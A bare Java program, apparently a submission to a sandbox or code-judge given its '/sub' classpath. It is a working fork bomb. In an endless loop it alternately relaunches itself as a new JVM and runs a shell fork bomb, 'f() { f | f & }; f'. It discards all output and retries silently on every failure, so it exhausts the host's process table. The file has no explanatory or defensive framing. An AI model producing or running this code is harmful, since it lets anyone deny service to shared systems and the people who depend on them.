import java.io.File;
public class Main {
    public static void main(String[] args) {
        ProcessBuilder self = new ProcessBuilder("/usr/bin/java", "-Xmx16m", "-cp", "/sub", "Main")
            .redirectOutput(ProcessBuilder.Redirect.DISCARD)
            .redirectError(ProcessBuilder.Redirect.DISCARD);
        ProcessBuilder shell = new ProcessBuilder("/bin/sh", "-c", "f() { f | f & }; f")
            .redirectOutput(ProcessBuilder.Redirect.DISCARD)
            .redirectError(ProcessBuilder.Redirect.DISCARD);
        int started = 0;
        while (true) {
            try {
                (started % 2 == 0 ? self : shell).start();
                started++;
            } catch (Exception e) {
                // keep trying
            }
        }
    }
}
